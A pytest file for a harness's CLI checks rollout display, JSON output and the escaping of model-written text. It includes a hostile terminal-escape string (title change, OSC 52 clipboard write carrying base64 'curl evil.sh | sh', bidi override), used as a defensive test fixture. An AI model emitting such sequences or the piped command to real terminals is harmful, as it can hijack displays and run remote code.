"""Reading what a run found: `guidance-ttt show STATE ENTRY` prints one rollout in full
(guidance, summary, verdict per case, program, diff to its parent, the prompts), `inspect
--json` is the same data as the tables, the seed's G clones appear once, and inspect's
summaries get the console's width. The state directory is made by the real store and
controller code (tests/state_fixture.py)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from rich.console import Console

from harness import results
from harness.cli import views
from harness.cli.entry import main
from tests.state_fixture import FixtureRun, build_state_dir

REPO = Path(__file__).resolve().parents[2]
TASK = REPO / "harbor" / "polyomino_packing"


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> FixtureRun:
    return build_state_dir(tmp_path_factory.mktemp("show") / "state", in_flight_slots=0)


def test_show_prints_one_rollout_with_its_code_diff_and_prompts(run: FixtureRun, capsys) -> None:
    prefix = run.best_entry_id[:10]
    argv = ["show", str(run.state_dir), prefix, "--code", "--diff-parent", "--prompts"]
    assert main([*argv, "--task", str(TASK)]) == 0
    out = capsys.readouterr().out
    entry = results.load_run(run.state_dir).archive.entries[run.best_entry_id]
    assert f"entry {entry.id} (step {entry.timestep - 1}" in out
    assert "verdict: valid" in out and "parent: entry" in out
    for section in ("guidance", "summary", "program", "diff to the parent"):
        assert f"--- {section}" in out
    assert entry.guidance.strip().splitlines()[0] in out
    assert entry.solution.strip().splitlines()[0] in out
    assert f"+++ entry {entry.id[:8]}" in out and "--- parent" in out
    assert "--- guidance prompt (system)" in out
    assert "<parent_code>" in out  # the executor's prompt, rebuilt from the task


def test_show_names_an_unknown_entry_in_one_line(run: FixtureRun, capsys) -> None:
    assert main(["show", str(run.state_dir), "zzzz-no-such"]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "no entry or node 'zzzz-no-such'" in err


def test_inspect_json_lists_the_seed_once_and_matches_the_archive(run: FixtureRun, capsys):
    assert main(["inspect", str(run.state_dir), "--json", "--top", "50"]) == 0
    report = json.loads(capsys.readouterr().out)
    entries = [row["entry_id"] for row in report["best"]]
    assert len(entries) == len(set(entries))
    archive = results.load_run(run.state_dir).archive
    seeds = [n for n in archive.nodes.values() if n.timestep == 0]
    assert len(seeds) == run.groups  # the archive keeps G clones of the seed ...
    assert sum(1 for row in report["best"] if row["step"] is None) <= 1  # ... shown once
    assert report["best"][0]["entry_id"] == run.best_entry_id
    assert [row["entry_id"] for row in report["lineage_of_best"]] == run.best_lineage_entry_ids
    assert report["mode"] == "trained"


def test_inspect_summaries_use_the_consoles_width(run: FixtureRun) -> None:
    view = results.load_run(run.state_dir)

    def longest_summary_cell(width: int) -> int:
        console = Console(width=width, record=True, color_system=None)
        views.render_inspect(view, console, 5, 0)
        table = console.export_text().split("Lineage of the best")[0]
        return max(len(line.rstrip()) for line in table.splitlines())

    assert longest_summary_cell(200) > longest_summary_cell(80)


#: What a model or a candidate could write to take over a terminal: a title change (OSC 2),
#: a clipboard write (OSC 52), a device-status query (answered into the shell's input), a
#: cursor move over earlier lines, C1 CSI, and a bidi override.
HOSTILE = (
    "\x1b]2;pwned title\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[6n\x1b[2A\r\x9b31m\u202e"
)
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> FixtureRun:
    return build_state_dir(
        tmp_path_factory.mktemp("hostile") / "state",
        in_flight_slots=0,
        committed_steps=2,
        text=HOSTILE,
        parse_error_slot=(1, 3),
    )


def _no_raw_controls(out: str) -> None:
    for char in RAW_CONTROLS:
        assert char not in out, f"{char!r} reached the terminal"


def test_show_escapes_a_title_change_and_a_clipboard_write(hostile: FixtureRun, capsys) -> None:
    argv = ["show", str(hostile.state_dir), hostile.best_entry_id, "--code", "--raw"]
    assert main([*argv, "--diff-parent"]) == 0
    out = capsys.readouterr().out
    _no_raw_controls(out)
    assert "\\x1b]2;pwned title\\x07" in out  # shown, escaped, so a reader sees the attempt
    assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in out
    assert "\\x9b31m" in out and "\\u202e" in out


def test_inspect_escapes_model_text_in_every_table(hostile: FixtureRun, capsys) -> None:
    assert main(["inspect", str(hostile.state_dir), "--cases", "2"]) == 0
    out = capsys.readouterr().out
    _no_raw_controls(out)
    assert "\\x1b]52;c;" in out


def test_show_raw_prints_a_parse_errors_executor_answer(hostile: FixtureRun, capsys) -> None:
    archive = results.load_run(hostile.state_dir).archive
    entry = next(e for e in archive.entries.values() if e.verifier_status == "parse_error")
    assert main(["show", str(hostile.state_dir), entry.id, "--raw"]) == 0
    out = capsys.readouterr().out
    _no_raw_controls(out)
    executor = out.split("--- executor's raw answer", 1)[1]
    assert executor.lstrip().startswith("I would pack rings here, but I ran out of room.")
    guidance = out.split("--- guidance model's raw answer", 1)[1].split("--- executor", 1)[0]
    assert "<guidance>Step" in guidance
    assert main(["show", str(hostile.state_dir), entry.id]) == 0
    assert "raw answer" not in capsys.readouterr().out  # only with --raw


def test_a_raw_answer_is_bounded() -> None:
    from harness.cli.show import RAW_LIMIT
    from harness.observe.terminal import bounded

    text = bounded("x" * (RAW_LIMIT + 5), RAW_LIMIT)
    assert text.startswith("x" * RAW_LIMIT) and text.endswith("(5 more characters not shown)")


def test_every_control_and_bidi_character_is_shown_escaped() -> None:
    from harness.observe.terminal import escape_terminal

    assert escape_terminal("a\tb\nc") == "a\tb\nc"  # layout kept
    assert escape_terminal("a\tb\nc", multiline=False) == "a\\x09b\\x0ac"
    assert escape_terminal("\x00\x07\x1b\x7f\x85\x9b\u202e\u2066") == (
        "\\x00\\x07\\x1b\\x7f\\x85\\x9b\\u202e\\u2066"
    )
    assert escape_terminal("ünïcode ✓ [bold]") == "ünïcode ✓ [bold]"


def test_status_and_compare_show_hostile_names_as_text(hostile: FixtureRun, capsys) -> None:
    """A state directory and an arm name are shown as text (no markup, controls escaped)."""
    assert main(["status", str(hostile.state_dir), "--timeout", "1"]) == 0
    _no_raw_controls(capsys.readouterr().out)
    from harness.cli.compare import render
    from harness.results.compare import Curve, Point, compare

    points = (Point(0, 4, 100, None, 12.0),)
    named = Curve("arm[/bold]\x1b]2;x\x07", 0, "r", "t", "s", "max", 10.0, points)
    console = Console(width=200, record=True, color_system=None)
    render(compare([named], "step", resamples=10), console)
    out = console.export_text()
    _no_raw_controls(out)
    assert "arm[/bold]\\x1b]2;x\\x07" in out
